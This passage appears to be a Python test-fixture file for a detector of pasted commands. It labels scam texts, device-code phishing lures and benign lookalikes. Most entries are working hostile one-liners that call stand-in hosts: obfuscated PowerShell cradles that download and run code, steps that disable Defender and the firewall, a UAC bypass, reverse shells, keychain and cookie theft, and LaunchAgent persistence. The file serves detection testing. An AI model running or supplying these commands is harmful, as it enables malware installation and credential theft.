    ('device-code-editor', 'Please sign in: open https://microsoft.com/devicelogin and enter the code HK7P2QWX to view the invoice.', 'flagged', 'any', 'other', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('device-code-aka', 'Enter code FQ8-3ZK at https://aka.ms/devicelogin to unlock the document', 'flagged', 'any', 'unknown', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('scam-fr', 'Votre ordinateur est bloqué pour des raisons de sécurité. Appelez immédiatement le support Microsoft au 09 70 55 01 23.', 'flagged', 'any', 'unknown', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('scam-es-callback', 'Se ha realizado un cargo de 499,99 € en su cuenta PayPal. Si no reconoce esta compra, llame al +34 900 555 012.', 'flagged', 'any', 'unknown', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('scam-nl', 'Uw computer is geïnfecteerd met een virus. Bel direct de Microsoft helpdesk: 020 555 0123. Schakel uw computer niet uit.', 'flagged', 'any', 'unknown', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('scam-pl', 'Twój komputer został zablokowany. Zadzwoń pod numer +48 22 555 01 23, aby go odblokować.', 'flagged', 'any', 'unknown', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('scam-tr', 'Bilgisayarınız engellendi! Lütfen hemen Microsoft destek hattını arayın: 0850 555 01 23', 'flagged', 'any', 'unknown', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('scam-ja', 'お使いのコンピューターはウイルスに感染しています。今すぐサポートセンター 050-5555-0123 にお電話ください。', 'flagged', 'any', 'unknown', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('scam-en-geek', 'Geek Squad: your annual protection plan renewed for $389.99. To cancel and get a refund call 1 (855) 555-0190 within 24 hours.', 'flagged', 'any', 'unknown', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('scam-quick-assist', 'Microsoft support here. Press Ctrl+Windows+Q to open Quick Assist and enter the security code 481903 I give you so I can remove the virus.', 'flagged', 'any', 'unknown', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('scam-anydesk', 'To get your refund, install AnyDesk from anydesk.com and read me the 9-digit address. Call back at 1-888-555-0100.', 'flagged', 'any', 'unknown', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('callback-crypto', 'Coinbase: a withdrawal of 0.84 BTC to bc1q9h5...x2 was requested. If this was not you, call our recovery desk at +1 (888) 555-0132 immediately.', 'flagged', 'any', 'unknown', 'https://meet-join.lantern-crafts.example/j/8812'),
    ('winget-anydesk', 'winget install AnyDesk.AnyDesk --silent', 'flagged', 'windows', 'run_dialog', 'https://refund-desk.lantern-crafts.example/help'),
    ('ps-substring-tostring', 'powershell -c "&(\'\'.SubString.ToString()[67,72,64]-Join\'\') (irm cdn.harbor-sync.test/s)"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('ps-shellid', 'powershell -c "&($ShellId[1]+$ShellId[13]+\'x\') (irm cdn.harbor-sync.test/s)"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('ps-pshome-letters', 'powershell -c ".($PSHOME[21]+$PSHOME[30]+\'x\') (New-Object Net.WebClient).DownloadString(\'https://cdn.harbor-sync.test/p\')"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('ps-public-letters', 'powershell -c ".($env:PUBLIC[13]+$env:PUBLIC[5]+\'X\') (irm cdn.harbor-sync.test/p)"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('ps-format-iex', 'powershell -c "& (\'{1}{0}\' -f \'EX\',\'I\') (irm cdn.harbor-sync.test/f)"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('ps-char-plus', 'powershell -c "& ([char]73+[char]69+[char]88) (irm cdn.harbor-sync.test/c)"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('ps-getcommand-cmdlet', 'powershell -c "& $ExecutionContext.InvokeCommand.GetCommand(\'I*-E*\',\'Cmdlet\') (irm cdn.harbor-sync.test/g)"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('ps-getcmdlet', 'powershell -c "& $ExecutionContext.InvokeCommand.GetCmdlet(\'Invoke-Expression\') (irm cdn.harbor-sync.test/g)"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('ps-mixed-case', 'PoWeRsHeLl -nOp -W HiDdEn -C "IeX(NeW-ObJeCt NeT.WeBcLiEnT).DoWnLoAdStRiNg(\'hTtPs://cdn.harbor-sync.test/m\')"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('ps-slash-params', 'powershell /nop /w 1 /c "irm cdn.harbor-sync.test/sl | iex"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('ps-slash-enc', 'powershell /enc aQByAG0AIABjAGQAbgAuAGgAYQByAGIAbwByAC0AcwB5AG4AYwAuAHQAZQBzAHQALwBlAHwAaQBlAHgA', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('ps-pwsh', 'pwsh -nop -c "iex (irm https://cdn.harbor-sync.test/pw)"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('ps-foreach-content', 'powershell -c "iwr https://cdn.harbor-sync.test/fe -UseBasicParsing | % Content | iex"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('ps-pipe-gcm', 'powershell -c "irm cdn.harbor-sync.test/g | & (gcm ie*)"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('ps-iex-command-param', 'powershell -c "Invoke-Expression -Command (Invoke-RestMethod -Uri \'https://cdn.harbor-sync.test/ic\')"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('ps-disable-rtm', 'powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true; irm cdn.harbor-sync.test/d | iex"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('ps-excl-ext', 'powershell -c "Add-MpPreference -ExclusionExtension exe,dll; iwr https://cdn.harbor-sync.test/x.exe -o $env:TEMP\\x.exe; saps $env:TEMP\\x.exe"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('cmd-fodhelper', 'cmd /c reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d "mshta https://cdn.harbor-sync.test/u" /f && reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /v DelegateExecute /f && fodhelper.exe', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('cmd-firewall-off', 'cmd /c netsh advfirewall set allprofiles state off & powershell -w h -c "irm cdn.harbor-sync.test/fw|iex"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('rundll32-shellexec', 'rundll32.exe shell32.dll,ShellExec_RunDLL powershell -w h -c "irm cdn.harbor-sync.test/r|iex"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('cmd-start-webdav-exe', 'cmd /c start "" "\\\\cdn.harbor-sync.test@SSL\\DavWWWRoot\\Setup.exe"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('explorer-search-ms', 'explorer.exe "search-ms:query=Statement&crumb=location:\\\\cdn.harbor-sync.test@SSL\\DavWWWRoot\\docs&displayname=Downloads"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('msiexec-transforms', 'msiexec.exe /i "https://cdn.harbor-sync.test/a.msi" /qn TRANSFORMS=https://cdn.harbor-sync.test/a.mst', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('cmd-caret-pipe', 'cmd /c "powershell -c irm cdn.harbor-sync.test/cp ^| iex"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('cmd-env-comspec-mshta', '%ComSpec% /c m^s^h^t^a h^t^t^p^s://cdn.harbor-sync.test/ca', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('cmd-call-set', 'cmd /v:on /c "set u=https://cdn.harbor-sync.test/cs&& call mshta !u!"', 'malicious', 'windows', 'run_dialog', 'https://portal.birchwood-clinic.example/appointments'),
    ('linux-pipe-python-dash', 'curl -s https://cdn.harbor-sync.test/py | python3 -', 'malicious', 'linux', 'terminal', 'https://portal.birchwood-clinic.example/appointments'),
    ('linux-nested-bash', 'bash -c "curl -fsSL https://cdn.harbor-sync.test/n | bash"', 'malicious', 'linux', 'terminal', 'https://portal.birchwood-clinic.example/appointments'),
    ('linux-b64-file-run', 'echo IyEvYmluL3NoCmN1cmwgLXMgaHR0cHM6Ly9jZG4uaGFyYm9yLXN5bmMudGVzdC96IHwgc2g= | base64 -d > /tmp/.z; chmod +x /tmp/.z; /tmp/.z', 'malicious', 'linux', 'terminal', 'https://portal.birchwood-clinic.example/appointments'),
    ('linux-socat', "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.44:4444", 'malicious', 'linux', 'terminal', 'https://portal.birchwood-clinic.example/appointments'),
    ('linux-php-sock', 'php -r \'$s=fsockopen("198.51.100.44",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'', 'malicious', 'linux', 'terminal', 'https://portal.birchwood-clinic.example/appointments'),
    ('linux-autostart', 'mkdir -p ~/.config/autostart && curl -so ~/.config/autostart/upd.desktop https://cdn.harbor-sync.test/upd.desktop', 'malicious', 'linux', 'terminal', 'https://portal.birchwood-clinic.example/appointments'),
    ('linux-or-fallback', '(curl -fsSL https://cdn.harbor-sync.test/o || wget -qO- https://cdn.harbor-sync.test/o) | sh', 'malicious', 'linux', 'terminal', 'https://portal.birchwood-clinic.example/appointments'),
    ('linux-sh-s', 'curl -s https://cdn.harbor-sync.test/ss | sh -s -- --key 8812', 'malicious', 'linux', 'terminal', 'https://portal.birchwood-clinic.example/appointments'),
    ('mac-zsh-path', 'curl -fsSL https://cdn.harbor-sync.test/zp | /bin/zsh', 'malicious', 'macos', 'terminal', 'https://portal.birchwood-clinic.example/appointments'),
    ('mac-tell-terminal', 'osascript -e \'tell application "Terminal" to do script "curl -s https://cdn.harbor-sync.test/tt | bash"\'', 'malicious', 'macos', 'terminal', 'https://portal.birchwood-clinic.example/appointments'),
    ('mac-admin-priv', '/usr/bin/osascript -e \'do shell script "curl -s https://cdn.harbor-sync.test/ap | sh" with administrator privileges\'', 'malicious', 'macos', 'terminal', 'https://portal.birchwood-clinic.example/appointments'),
    ('mac-heredoc-plist', 'cat > ~/Library/LaunchAgents/com.apple.sync.plist <<EOF\n<?xml version="1.0"?><plist><dict><key>Label</key><string>com.apple.sync</string><key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>curl -s https://cdn.harbor-sync.test/la | sh</string></array><key>RunAtLoad</key><true/></dict></plist>\nEOF\nlaunchctl load ~/Library/LaunchAgents/com.apple.sync.plist', 'malicious', 'macos', 'terminal', 'https://portal.birchwood-clinic.example/appointments'),
    ('mac-ditto-keychain', 'ditto -c -k --sequesterRsrc --keepParent ~/Library/Keychains /tmp/k.zip && curl -F f=@/tmp/k.zip https://drop.harbor-sync.test/u', 'malicious', 'macos', 'terminal', 'https://portal.birchwood-clinic.example/appointments'),
    ('mac-vm-check', 'system_profiler SPHardwareDataType | grep -qi vmware || (curl -s https://cdn.harbor-sync.test/vm | bash)', 'malicious', 'macos', 'terminal', 'https://portal.birchwood-clinic.example/appointments'),
    ('mac-sudo-herestring', "sudo -S installer -pkg /tmp/u.pkg -target / <<< 'Password123'; curl -so /tmp/u.pkg https://cdn.harbor-sync.test/u.pkg", 'malicious', 'macos', 'terminal', 'https://portal.birchwood-clinic.example/appointments'),
    ('js-btoa-cookie', "fetch('https://px.harbor-sync.test/c/'+btoa(document.cookie))", 'malicious', 'any', 'browser_console', 'https://portal.birchwood-clinic.example/appointments'),
    ('js-location-exfil', "location.href='https://px.harbor-sync.test/?t='+localStorage.getItem('token')", 'malicious', 'any', 'browser_console', 'https://portal.birchwood-clinic.example/appointments'),
    ('js-data-import', "import('data:text/javascript;base64,ZmV0Y2goJ2h0dHBzOi8vY2RuLmhhcmJvci1zeW5jLnRlc3QvZGknKS50aGVuKHI9PnIudGV4dCgpKS50aGVuKGV2YWwp')", 'malicious', 'any', 'browser_console', 'https://portal.birchwood-clinic.example/appointments'),
    ('js-worker-blob', "new Worker(URL.createObjectURL(new Blob([await (await fetch('https://cdn.harbor-sync.test/w.js')).text()])))", 'malicious', 'any', 'browser_console', 'https://portal.birchwood-clinic.example/appointments'),
    ('js-globalthis-atob', "globalThis[atob('ZXZhbA==')](await (await fetch('https://cdn.harbor-sync.test/gt')).text())", 'malicious', 'any', 'browser_console', 'https://portal.birchwood-clinic.example/appointments'),
    ('js-reflect-eval', "Reflect.apply(eval, null, [await (await fetch('https://cdn.harbor-sync.test/re')).text()])", 'malicious', 'any', 'browser_console', 'https://portal.birchwood-clinic.example/appointments'),
    ('js-setinterval-str', 'setInterval("fetch(\'https://cdn.harbor-sync.test/si\').then(r=>r.text()).then(eval)", 60000)', 'malicious', 'any', 'browser_console', 'https://portal.birchwood-clinic.example/appointments'),
    ('js-function-this', "Function('return this')().eval(atob('ZmV0Y2goJ2h0dHBzOi8vY2RuLmhhcmJvci1zeW5jLnRlc3QveCcp'))", 'malicious', 'any', 'browser_console', 'https://portal.birchwood-clinic.example/appointments'),
    ('js-credentials', "navigator.credentials.get({password:true}).then(c=>fetch('https://px.harbor-sync.test/p',{method:'POST',body:c.id+':'+c.password}))", 'malicious', 'any', 'browser_console', 'https://portal.birchwood-clinic.example/appointments'),
    ('consentfix-vscode', 'vscode://vscode.github-authentication/did-authenticate?windowid=1&code=8f2a91c3d4e5b6a7&state=e1f2', 'flagged', 'any', 'unknown', 'https://portal.birchwood-clinic.example/appointments'),
    ('consentfix-oob', 'Please paste this code back on the verification page: 4/1AfJohXm2Kp9QzR8sT0vW3yB5nC7dE1fG', 'flagged', 'any', 'unknown', 'https://portal.birchwood-clinic.example/appointments'),
    ('consentfix-mobile', 'msauth.com.microsoft.teams://auth?code=0.AXEA9Gq8hkdlQ1lSxk&state=aa12', 'flagged', 'any', 'unknown', 'https://portal.birchwood-clinic.example/appointments'),
    ('instr-de', 'Bestätigen Sie, dass Sie ein Mensch sind:\n1. Drücken Sie Windows + R\n2. Drücken Sie Strg + V\n3. Drücken Sie Eingabe\npowershell -w h -c "iex(irm cdn.quill-relay.test/v)"', 'malicious', 'windows', 'unknown', 'https://www.alder-garden-supply.example/cart'),
    ('instr-fr', 'Vérification : appuyez sur Windows + R, puis Ctrl + V, puis Entrée.\npowershell -w h -c "iex(irm cdn.quill-relay.test/v)"', 'malicious', 'windows', 'unknown', 'https://www.alder-garden-supply.example/cart'),
    ('instr-es', 'Para verificar que no eres un robot: pulsa Windows + R, pega con Ctrl + V y pulsa Intro.\npowershell -w h -c "iex(irm cdn.quill-relay.test/v)"', 'malicious', 'windows', 'unknown', 'https://www.alder-garden-supply.example/cart'),
    ('instr-pt', 'Para continuar: pressione Windows + R, cole com Ctrl + V e pressione Enter.\npowershell -w h -c "iex(irm cdn.quill-relay.test/v)"', 'malicious', 'windows', 'unknown', 'https://www.alder-garden-supply.example/cart'),
    ('instr-it', 'Per verificare: premi Windows + R, incolla con Ctrl + V e premi Invio.\npowershell -w h -c "iex(irm cdn.quill-relay.test/v)"', 'malicious', 'windows', 'unknown', 'https://www.alder-garden-supply.example/cart'),
    ('instr-nl', 'Verificatie: druk op Windows + R, plak met Ctrl + V en druk op Enter.\npowershell -w h -c "iex(irm cdn.quill-relay.test/v)"', 'malicious', 'windows', 'unknown', 'https://www.alder-garden-supply.example/cart'),
    ('instr-pl', 'Weryfikacja: naciśnij Windows + R, wklej Ctrl + V i naciśnij Enter.\npowershell -w h -c "iex(irm cdn.quill-relay.test/v)"', 'malicious', 'windows', 'unknown', 'https://www.alder-garden-supply.example/cart'),
    ('instr-tr', 'Doğrulama: Windows + R tuşlarına basın, Ctrl + V ile yapıştırın ve Enter\'a basın.\npowershell -w h -c "iex(irm cdn.quill-relay.test/v)"', 'malicious', 'windows', 'unknown', 'https://www.alder-garden-supply.example/cart'),
    ('instr-ru', 'Подтвердите, что вы не робот: нажмите Win + R, вставьте Ctrl + V и нажмите Enter.\npowershell -w h -c "iex(irm cdn.quill-relay.test/v)"', 'malicious', 'windows', 'unknown', 'https://www.alder-garden-supply.example/cart'),
    ('instr-ja', '認証手順: Windows + R を押し、Ctrl + V で貼り付けて Enter を押してください。\npowershell -w h -c "iex(irm cdn.quill-relay.test/v)"', 'malicious', 'windows', 'unknown', 'https://www.alder-garden-supply.example/cart'),
    ('instr-zh', '验证步骤：按 Windows + R，按 Ctrl + V 粘贴，然后按回车。\npowershell -w h -c "iex(irm cdn.quill-relay.test/v)"', 'malicious', 'windows', 'unknown', 'https://www.alder-garden-supply.example/cart'),
    ('instr-winx', 'Fix: press Windows + X, choose Terminal, then paste with Ctrl + V and press Enter.\npowershell -w h -c "iex(irm cdn.quill-relay.test/v)"', 'malicious', 'windows', 'unknown', 'https://www.alder-garden-supply.example/cart'),
    ('instr-mac-de', 'Öffnen Sie das Terminal (Befehl + Leertaste, „Terminal“ eingeben), fügen Sie mit Befehl + V ein und drücken Sie die Eingabetaste:\ncurl -fsSL https://cdn.quill-relay.test/m | bash', 'malicious', 'macos', 'unknown', 'https://www.alder-garden-supply.example/cart'),
    ('instr-mac-en', 'Press Cmd + Space, type Terminal and press Return. Paste the line below with ⌘V and press Return again.\ncurl -fsSL https://cdn.quill-relay.test/m | bash', 'malicious', 'macos', 'unknown', 'https://www.alder-garden-supply.example/cart'),
    ('instr-explorer', 'To open the shared file: press Ctrl + L in File Explorer, paste the path and press Enter.\npowershell -w h -c "iex(irm cdn.quill-relay.test/v)"          # C:\\Share\\Invoice.pdf', 'malicious', 'windows', 'unknown', 'https://www.alder-garden-supply.example/cart'),
    ('instr-linux', 'Browser update required. Open a terminal with Ctrl + Alt + T and paste:\ncurl -fsSL https://cdn.quill-relay.test/m | bash', 'flagged', 'linux', 'unknown', 'https://www.alder-garden-supply.example/cart'),
    ('url-hta-run', 'https://cdn.quill-relay.test/check.hta', 'flagged', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
    ('url-vbs-webdav', '\\\\cdn.quill-relay.test@SSL\\DavWWWRoot\\verify.vbs', 'flagged', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
    ('url-file-scheme-unc', 'file://198.51.100.9/pub/verify.lnk', 'flagged', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
    ('url-msix', 'ms-appinstaller:?source=https://cdn.quill-relay.test/Claude.msixbundle', 'flagged', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
    ('filefix-file-url', 'file:///C:/Windows/System32/cmd.exe /c curl -s cdn.quill-relay.test/f | cmd', 'flagged', 'windows', 'explorer_bar', 'https://www.alder-garden-supply.example/cart'),
    ('ps-runas', 'powershell -c "Start-Process powershell -Verb RunAs -ArgumentList \'-w h -c irm cdn.quill-relay.test/ra|iex\'"', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
    ('ps-curl-exe-output', 'cmd /c curl.exe --output %APPDATA%\\upd.exe --url https://cdn.quill-relay.test/upd.exe & %APPDATA%\\upd.exe', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
    ('ps-python-portable', 'powershell -c "iwr https://cdn.quill-relay.test/python.zip -o $env:TEMP\\p.zip;Expand-Archive $env:TEMP\\p.zip $env:LOCALAPPDATA\\p;& $env:LOCALAPPDATA\\p\\pythonw.exe -c "import urllib.request;exec(urllib.request.urlopen(\'https://cdn.quill-relay.test/s.py\').read())""', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
    ('cmd-msiexec-font', 'msiexec /i https://cdn.quill-relay.test/fonts/Arial-Pro.ttf /qn', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
    ('cmd-mshta-mp3', 'mshta https://cdn.quill-relay.test/media/track04.mp3', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
    ('cmd-powershell-hidden-noexit', 'powershell -NoExit -WindowStyle Minimized -Command "$u=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(\'aHR0cHM6Ly9jZG4ucXVpbGwtcmVsYXkudGVzdC91\'));iex(irm $u)"', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
    ('ps-iex-str-gci', 'powershell -c "iex "& (gci C:\\W*\\S*32\\m?h?a.exe) https://cdn.quill-relay.test/w1""', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
    ('ps-gci-fullname', 'powershell -c "& ((gci $env:windir\\*\\m*hta.exe)[0].FullName) https://cdn.quill-relay.test/w2"', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
    ('ps-gcm-path', 'powershell -c "& (Get-Command C:\\W*\\Sy*\\ms*ta.exe) https://cdn.quill-relay.test/w3"', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
    ('ps-resolve-path', 'powershell -c "Start-Process (Resolve-Path C:\\W*\\S*32\\m?hta.exe) https://cdn.quill-relay.test/w4"', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
    ('ps-iex-single-str', 'powershell -c "iex \'&(gcm C:\\Win*\\Sys*\\msh*.exe) https://cdn.quill-relay.test/w5\'"', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
    ('ps-scriptblock-str', 'powershell -c "[scriptblock]::Create(\'& (dir C:\\W*\\*32\\c??l.e*) /c mshta https://cdn.quill-relay.test/w6\').Invoke()"', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
    ('ps-iex-var-wild', 'powershell -c "$p=\'C:\\W*\\S*32\\m?hta.exe\';& (gi $p) https://cdn.quill-relay.test/w7"', 'malicious', 'windows', 'run_dialog', 'https://www.alder-garden-supply.example/cart'),
    ('js-unicode-ident', "\\u0065val(atob('ZmV0Y2goJ2h0dHBzOi8vY2RuLnF1aWxsLXJlbGF5LnRlc3QveCcp'))", 'flagged', 'any', 'browser_console', 'https://www.alder-garden-supply.example/cart'),
    ('js-unicode-ident-braces', "\\u{65}val(atob('ZmV0Y2goJ2h0dHBzOi8vY2RuLnF1aWxsLXJlbGF5LnRlc3QveCcp'))", 'flagged', 'any', 'browser_console', 'https://www.alder-garden-supply.example/cart'),
    ('js-form-hijack', "document.forms[0].action='https://collect.quill-relay.test/login';document.forms[0].submit()", 'flagged', 'any', 'browser_console', 'https://www.alder-garden-supply.example/cart'),
    ('js-hex-escape-str', "window['\\x65\\x76\\x61\\x6c'](atob('ZmV0Y2goJ2h0dHBzOi8vY2RuLnF1aWxsLXJlbGF5LnRlc3QveCcp'))", 'malicious', 'any', 'browser_console', 'https://www.alder-garden-supply.example/cart'),
]  # fmt: skip

# everyday texts that look like them: quiet in their context
LOOKALIKES: list[tuple[str, str, str, str, str, str | None]] = [
    ('ok-gh-auth', '! First copy your one-time code: 8F2A-91C3\nPress Enter to open github.com in your browser...\nOpen this URL to continue in your web browser: https://github.com/login/device', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs'),
    ('ok-gh-auth-o', '! First copy your one-time code: WDJB-MJHT\n- Press Enter to open https://github.com/login/device in your browser...', 'not_flagged', 'any', 'other', 'https://learn.example.org/docs'),
    ('ok-google-tv', 'On your phone or computer, go to google.com/device and enter the code shown on your TV.', 'not_flagged', 'any', 'other', 'https://learn.example.org/docs'),
    ('ok-az-login', 'To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code B7QK2WZP9 to authenticate.', 'not_flagged', 'any', 'terminal', None),
    ('ok-ms-docs', 'The user opens https://microsoft.com/devicelogin, enters the user_code (for example ABCD-EFGH) and approves the request.', 'not_flagged', 'any', 'other', 'https://learn.example.org/docs'),
    ('ok-qa-it', 'Hi, this is Sam from the IT service desk about ticket #4411. Please open Quick Assist and give me the code it shows so I can fix your printer driver.', 'not_flagged', 'any', 'other', None),
    ('ok-anydesk-notes', 'AnyDesk 9.0 release notes: faster connections, a new address book and improved unattended access. Refund policy: see our website.', 'not_flagged', 'any', 'other', 'https://learn.example.org/docs'),
    ('ok-teamviewer-help', 'If your TeamViewer session is blocked by the firewall, allow outgoing TCP 5938 and give the support engineer your ID when asked.', 'not_flagged', 'any', 'other', 'https://learn.example.org/docs'),
    ('ok-msxsl', 'msxsl.exe report.xml report.xsl -o report.html', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs'),
    ('ok-regasm', 'regasm MyCompany.Interop.dll /tlb:MyCompany.Interop.tlb /codebase', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs'),
    ('ok-dotnet', 'dotnet bin\\Release\\net8.0\\App.dll --urls http://localhost:5000', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs'),
    ('ok-tftp', 'tftp -i 192.168.1.1 PUT running-config.txt', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs'),
    ('ok-winget', 'winget install --manifest .\\manifests\\c\\Contoso\\App\\1.2.0', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs'),
    ('ok-cache-clear', 'Remove-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\*" -Recurse -Force', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs'),
    ('ok-cache-size', '(gci "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data" | measure Length -Sum).Sum / 1MB', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs'),
    ('ok-ld-preload-cat', 'cat /etc/ld.so.preload; ldd /usr/bin/ssh', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs'),
    ('ok-ld-preload-jemalloc', 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 ./server --port 8080', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs'),
    ('ok-profile-backup', 'cp -R ~/Library/Application\\ Support/Google/Chrome/Default ~/Backups/chrome-profile', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs'),
    ('ok-firefox-rsync', 'rsync -a ~/.mozilla/firefox/ /mnt/backup/firefox/', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs'),
    ('ok-wget-iso', 'wget http://mirror.example.org/iso/ubuntu-24.04.iso; sha256sum ubuntu-24.04.iso', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs'),
    ('ok-wget-installer', 'wget https://gravelbox.dev/install.sh && bash install.sh', 'not_flagged', 'any', 'terminal', 'https://www.gravelbox.dev/download'),
    ('ok-wget-make', 'wget https://example.org/src/tool-1.2.tar.gz; tar xf tool-1.2.tar.gz; cd tool-1.2; sh configure', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs'),
    ('ok-es-cargo', 'Se ha realizado un cargo de 12,00 € por su suscripción mensual. Gracias por confiar en nosotros. Atención al cliente: +34 900 555 111.', 'not_flagged', 'any', 'other', None),
    ('ok-url-check', 'https://status.example.org ✅ all systems operational', 'not_flagged', 'any', 'unknown', 'https://learn.example.org/docs'),
    ('ok-js-script-local', "document.head.appendChild(Object.assign(document.createElement('script'), {src: '/static/app.js'}))", 'not_flagged', 'any', 'browser_console', 'https://learn.example.org/docs'),
    ('ok-ps-expandstring', "$ExecutionContext.InvokeCommand.ExpandString('$env:USERPROFILE\\Documents')", 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs'),
    ('ok-ps-invokescript-local', "$ExecutionContext.InvokeCommand.InvokeScript('Get-Date')", 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs'),
    ('ok-base64-pem', '-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo\n4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u\n+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh\n-----END PUBLIC KEY-----', 'not_flagged', 'any', 'other', 'https://learn.example.org/docs'),
    ('ok-ps-securestring', 'powershell -c "$s=ConvertTo-SecureString \'abc\' -AsPlainText -Force"', 'not_flagged', 'any', 'terminal', 'https://shop.lantern-crafts.example/verify'),
    ('ok-ps-admin', "Get-Service | Where-Object {$_.Status -eq 'Running'} | Sort-Object DisplayName | Format-Table -AutoSize", 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', 'Get-ChildItem -Path C:\\Windows\\System32\\*.exe | Select-Object -First 5 Name, Length', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', 'Get-Command *-Service* | Select-Object Name, Source', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
    ('ok-ps-admin', 'Get-Alias ?? | Format-Wide -Column 4', 'not_flagged', 'any', 'terminal', 'https://learn.example.org/docs/admin'),
